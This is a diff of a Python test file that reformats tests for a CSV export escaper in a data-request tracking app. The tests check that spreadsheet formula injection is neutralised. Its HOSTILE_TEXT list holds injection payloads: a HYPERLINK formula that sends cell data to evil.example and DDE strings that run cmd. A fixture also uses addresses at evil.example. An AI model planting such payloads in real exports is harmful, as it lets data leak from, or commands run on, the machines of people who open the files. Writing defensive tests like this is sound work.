@@ -19,8 +19,18 @@ from tests.factories import officer_create, request_create
 from tests.support import ROOT
 
 
-HOSTILE_TEXT = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-                "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\uff1d1+1", "\0=1"]
+HOSTILE_TEXT = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\uff1d1+1",
+    "\0=1",
+]
 
 
 @pytest.mark.parametrize("value", HOSTILE_TEXT)
@@ -28,8 +38,21 @@ def test_formula_cells_become_text(value):
     assert csv_cell(value) == "'" + value
 
 
-@pytest.mark.parametrize("value", ["-3", "+1.5", "42", "2026-03-05", "2026-03-05T09:30:00+00:00", "Alex Example",
-                                   "a@example.org", "it's", "", "DSR-2026-000042"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "-3",
+        "+1.5",
+        "42",
+        "2026-03-05",
+        "2026-03-05T09:30:00+00:00",
+        "Alex Example",
+        "a@example.org",
+        "it's",
+        "",
+        "DSR-2026-000042",
+    ],
+)
 def test_ordinary_text_and_numbers_are_left_alone(value):
     assert csv_cell(value) == value
 
@@ -84,9 +107,15 @@ def hostile_queue(db):
     emails = ["=1+2@evil.example", "+cmd@evil.example", "-2+3@evil.example", "x@evil.example", "a@evil.example"]
     created = []
     for i, name in enumerate(HOSTILE_TEXT[:4] + ["Plain Name"]):
-        r = request_create(email=emails[i], full_name=name, request_type="erasure", regime="ccpa",
-                           received_at=timezone.now() - timedelta(days=60 if i == 0 else 1), channel="phone",
-                           actor=Actor.staff(officer))
+        r = request_create(
+            email=emails[i],
+            full_name=name,
+            request_type="erasure",
+            regime="ccpa",
+            received_at=timezone.now() - timedelta(days=60 if i == 0 else 1),
+            channel="phone",
+            actor=Actor.staff(officer),
+        )
         request_assign(request=r, actor=Actor.staff(officer), assignee=sneaky)
         created.append(r)
     for i, value in enumerate(v for v in HOSTILE_TEXT[4:] if "\0" not in v):  # PostgreSQL text holds no NUL
